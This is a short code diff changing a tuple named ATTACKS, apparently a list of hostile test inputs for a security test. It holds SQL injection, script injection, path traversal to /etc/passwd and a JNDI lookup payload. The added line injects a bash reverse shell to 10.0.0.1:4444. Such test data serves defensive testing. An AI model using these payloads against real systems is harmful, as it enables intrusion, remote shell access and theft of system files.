@@ -44,7 +44,7 @@ ATTACKS = (
     "1' UNION SELECT name, 2 FROM users--",
     "<script>alert(1)</script>",
     "../../../../etc/passwd",
-    "; cat /etc/passwd",
+    "x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     "${jndi:ldap://a.example/b}",
 )
 
